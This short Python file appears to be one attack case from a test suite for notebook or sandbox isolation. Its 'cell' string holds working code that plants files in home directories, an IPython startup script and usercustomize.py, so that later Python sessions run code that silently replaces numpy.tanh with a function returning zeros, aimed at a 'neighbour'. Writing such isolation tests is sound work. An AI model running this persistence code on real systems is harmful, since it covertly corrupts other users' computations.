"""Code is planted in the home directory that every later kernel and Python will run."""

kind = "writing the home directory"
aims = "change neighbour"
cell = """
import os, site, sys

planted = "import numpy\\nnumpy.tanh = lambda x: x * 0\\n"
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
for home in {"<<home>>", os.path.expanduser("~")}:
    for path in (".ipython/profile_default/startup/0.py", f".local/lib/{version}/site-packages/usercustomize.py"):
        try:
            os.makedirs(os.path.dirname(f"{home}/{path}"), exist_ok=True)
            open(f"{home}/{path}", "w").write(planted)
        except OSError:
            pass
"""
